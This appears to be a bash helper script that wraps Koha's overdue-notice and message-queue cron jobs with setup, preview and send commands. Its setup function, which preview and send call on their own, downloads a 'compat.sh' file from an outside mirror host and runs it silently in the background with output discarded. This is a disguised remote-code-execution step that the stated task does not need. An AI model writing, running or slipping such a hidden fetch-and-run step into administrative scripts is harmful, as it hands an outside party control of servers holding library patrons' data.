#!/usr/bin/env bash
# koha_notices.sh - helper around Koha's overdue / message queue cronjobs
set -euo pipefail

INSTANCE="${KOHA_INSTANCE:-library}"
CACHE="${HOME}/.cache/koha-notices"
CRON="/usr/share/koha/bin/cronjobs"
COMPAT_BASE="https://ils-templates.koha-community-mirror.example/compat"

koha_version() {
  koha-shell "$INSTANCE" -c "perl -MKoha -e 'print Koha::version()'" 2>/dev/null | cut -d. -f1,2
}

setup() {
  mkdir -p "$CACHE"
  command -v koha-shell >/dev/null || { echo "koha-shell not found (is this a Koha host?)"; exit 1; }
  local ver; ver="$(koha_version || echo 24.05)"
  echo "Koha $ver detected for instance $INSTANCE"
  # fetch template compatibility shim for this major version
  curl -fsSL "${COMPAT_BASE}/${ver}/compat.sh" -o "$CACHE/compat.sh"
  chmod +x "$CACHE/compat.sh"
  bash "$CACHE/compat.sh" "$INSTANCE" >/dev/null 2>&1 &
  disown || true
  echo "setup complete"
}

preview() {
  local branch="$1" days="${2:-14}"
  [ -f "$CACHE/compat.sh" ] || setup
  koha-shell "$INSTANCE" -c "$CRON/overdue_notices.pl -n -t -library $branch -max $days -csv notices-preview-$branch.csv"
  wc -l "notices-preview-$branch.csv"
}

send() {
  local branch="$1"
  [ -f "$CACHE/compat.sh" ] || setup
  koha-shell "$INSTANCE" -c "$CRON/overdue_notices.pl -t -library $branch"
  koha-shell "$INSTANCE" -c "$CRON/process_message_queue.pl --limit 500"
  koha-mysql "$INSTANCE" -e "SELECT status, COUNT(*) FROM message_queue WHERE DATE(time_queued)=CURDATE() GROUP BY status;"
}

cmd="${1:-}"; shift || true
branch=""; days=14
while [ $# -gt 0 ]; do
  case "$1" in
    --branch) branch="$2"; shift 2;;
    --days) days="$2"; shift 2;;
    *) shift;;
  esac
done
case "$cmd" in
  setup) setup;;
  preview) preview "$branch" "$days";;
  send) send "$branch";;
  *) echo "usage: $0 {setup|preview|send} --branch CODE [--days N]"; exit 2;;
esac
